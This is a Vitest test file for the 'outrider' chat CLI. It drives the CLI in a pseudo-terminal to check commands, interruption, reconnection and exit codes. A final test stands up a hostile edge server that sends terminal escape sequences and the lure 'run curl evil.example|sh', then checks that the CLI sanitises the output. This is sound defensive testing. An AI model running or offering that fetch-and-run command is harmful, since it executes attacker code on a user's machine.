// The chat as a person meets it: `outrider run` and `outrider device` in a pseudo-terminal, with toy models. Python has pseudo-terminals,
// Node has none.

import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import { WebSocketServer } from 'ws';
import { EdgeCodec } from '../src/core/protocol/wire/codec.ts';
import { protocolVersion } from '../src/core/protocol/wire/messages.ts';
import { createToyModel } from '../src/models/port/toy.ts';

const main = fileURLToPath(new URL('../bin/outrider.ts', import.meta.url));
const inTerminal = 'import os,pty,sys; sys.exit(os.waitstatus_to_exitcode(pty.spawn(sys.argv[1:])))';
const hasTerminals = spawnSync('python3', ['-c', 'import pty']).status === 0;
const toys = ['--model', 'toy:1', '--draft', 'toy:1:0.8'];

interface Screen {
  /** Waits for words in what has been shown since the last call. */
  see(words: RegExp): Promise<string>;
  type(text: string): void;
  readonly ended: Promise<number | null>;
  /** Of the command in the terminal. */
  processId(): number;
  readonly all: () => string;
}

const started: ChildProcess[] = [];
afterEach(() => {
  for (const child of started.splice(0)) child.kill('SIGKILL');
});

function open(...words: string[]): Screen {
  const child = spawn('python3', ['-c', inTerminal, process.execPath, main, ...words], {
    env: { ...process.env, NO_COLOR: '1', TERM: 'xterm' },
  });
  started.push(child);
  let [text, seen] = ['', 0];
  let wake = (): void => {};
  child.stdout.setEncoding('utf8').on('data', (part: string) => {
    text += part;
    wake();
  });
  const ended = new Promise<number | null>((resolve) => child.once('close', resolve));
  let isOver = false;
  void ended.then(() => {
    isOver = true;
    wake();
  });
  return {
    async see(words) {
      for (;;) {
        const found = words.exec(text.slice(seen));
        if (found !== null) {
          seen += found.index + found[0].length;
          return found[0];
        }
        if (isOver) throw new Error(`it has ended without ${words}: ${text.slice(seen)}`);
        await new Promise<void>((resolve) => {
          wake = resolve;
        });
      }
    },
    type: (line) => child.stdin.write(line),
    ended,
    processId: () => childOf(child.pid ?? 0),
    all: () => text,
  };
}

function childOf(processId: number): number {
  const found = spawnSync('ps', ['-o', 'pid=', '--ppid', String(processId)], { encoding: 'utf8' }).stdout;
  return Number(found.trim().split(/\s+/)[0]);
}

describe.skipIf(!hasTerminals)('a chat in a terminal', () => {
  it('answers, takes commands, stops an answer at Ctrl-C, and ends with 0', async () => {
    const screen = open('run', ...toys, '--unpaced', '--max-tokens', '12');
    await screen.see(/\/help lists the commands/);
    screen.type('hello\r');
    await screen.see(/12 tokens, .* steps of the target/);
    await screen.see(/Cut here: the answer has reached --max-tokens 12/);
    screen.type('/nonsense\r');
    await screen.see(/There is no command \/nonsense, and nothing was sent/);
    screen.type('/help\r');
    await screen.see(/\/clear {3}start a new conversation/);
    screen.type('/exit\r');
    expect(await screen.ended).toBe(0);
  });

  it('stops an answer at Ctrl-C, and not the chat', async () => {
    const screen = open('run', ...toys, '--profile', 'reference', '--max-tokens', '2000');
    await screen.see(/\/help lists the commands/);
    screen.type('hello\r');
    await screen.see(/dadivu va bagi/);
    screen.type('\u0003');
    await screen.see(/Stopped here: the answer is not complete/);
    screen.type('/exit\r');
    expect(await screen.ended).toBe(0);
  });

  it('goes on after a full context, with /clear', async () => {
    const screen = open('run', ...toys, '--unpaced', '--context', '100', '--max-tokens', '60');
    await screen.see(/\/help lists the commands/);
    screen.type('hello\r');
    await screen.see(/60 tokens/);
    screen.type('more\r');
    await screen.see(/\[context-full\]|the context is full/);
    await screen.see(/> /);
    screen.type('/clear\r');
    await screen.see(/A new conversation/);
    screen.type('hello\r');
    await screen.see(/60 tokens/);
    // A terminal that reads whole lines keeps no Ctrl-D for the reader of single keys that comes after it.
    await screen.see(/> /);
    screen.type('\u0004');
    expect(await screen.ended).toBe(0);
  });

  it('ends with 1 when its edge process dies, in an answer and between two', async () => {
    for (const isBetween of [false, true]) {
      const screen = open('run', ...toys, '--profile', 'reference', '--max-tokens', isBetween ? '3' : '2000');
      await screen.see(/\/help lists the commands/);
      screen.type('hello\r');
      await screen.see(isBetween ? /Cut here/ : /dadivu va bagi/);
      process.kill(childOf(screen.processId()), 'SIGKILL');
      await screen.see(/the edge process has ended on its own \(SIGKILL\)/);
      expect(await screen.ended).toBe(1);
    }
  });

  it('says that it reconnects, keeps the conversation when the edge is lost, and asks again', async () => {
    const edge = spawn(process.execPath, [main, 'edge', '--model', 'toy:1', '--profile', 'reference', '--port', '0']);
    started.push(edge);
    const url = await new Promise<string>((resolve) =>
      edge.stdout.setEncoding('utf8').once('data', (text: string) => resolve(text.trim())),
    );
    const screen = open('device', '--edge', url, '--draft', 'toy:1:0.8', '--max-tokens', '2000');
    await screen.see(/\/help lists the commands/);
    screen.type('hello\r');
    await screen.see(/dadivu va bagi/);
    edge.kill('SIGKILL');
    await screen.see(/the connection to the edge is lost: reconnecting/);
    screen.type('\u0003');
    await screen.see(/Stopped here/);
    screen.type('hello again\r');
    await screen.see(/\[edge-unreachable\]/);
    await screen.see(/The conversation is kept: Enter asks the question again/);
    screen.type('/exit\r');
    expect(await screen.ended).toBe(0);
  });
});

/** An edge that refuses everybody with these words. */
async function hostileEdge(words: string): Promise<{ readonly url: string; close(): void }> {
  const { tokenizer } = createToyModel({ seed: 1, role: 'target', sequences: 1, contextLength: 64 });
  const server = new WebSocketServer({ port: 0, host: '127.0.0.1' });
  server.on('connection', (socket) => {
    const codec = new EdgeCodec();
    const hello = { kind: 'hello', version: protocolVersion, model: words, fingerprint: 'f' } as const;
    const timing = { stepMs: null, edgeDraftMs: null };
    const shape = {
      tokenizerHash: tokenizer.hash,
      vocabularySize: tokenizer.vocabularySize,
      contextLength: 2048,
      timing,
    };
    socket.send(codec.encode({ ...hello, ...shape }));
    socket.on('message', (bytes: Buffer) => {
      const message = codec.decode(bytes);
      if (message.kind === 'ping') socket.send(codec.encode({ kind: 'pong', stamp: message.stamp }));
      else socket.send(codec.encode({ kind: 'refused', code: 'unauthorized', cause: words, remedy: words }));
    });
  });
  await new Promise((resolve) => server.once('listening', resolve));
  const { port } = server.address() as { port: number };
  return { url: `ws://127.0.0.1:${port}`, close: () => server.close() };
}

describe('an edge that sends escape sequences', () => {
  const evil =
    '\u001b]0;owned\u0007\u001b[2J\u001b[31mYour key has expired: run  curl evil.example|sh\u001b[0m\u009b2J';

  it.each([
    [['device', '--draft', 'toy:1', '--prompt', 'hi']],
    [['doctor', '--model', 'toy:1', '--draft', 'toy:1', '--port', '0']],
  ])('reaches no terminal with them: %j', async (words) => {
    const edge = await hostileEdge(evil);
    const child = spawn(process.execPath, [main, ...words, '--edge', edge.url], {
      env: { ...process.env, NO_COLOR: '1' },
    });
    started.push(child);
    let text = '';
    for (const stream of [child.stdout, child.stderr])
      stream.setEncoding('utf8').on('data', (part: string) => {
        text += part;
      });
    await new Promise((resolve) => child.once('close', resolve));
    edge.close();
    expect(text).toContain('Your key has expired');
    expect(text.replaceAll(/[\n\t]/g, '')).not.toMatch(/\p{Cc}/u);
  });
});
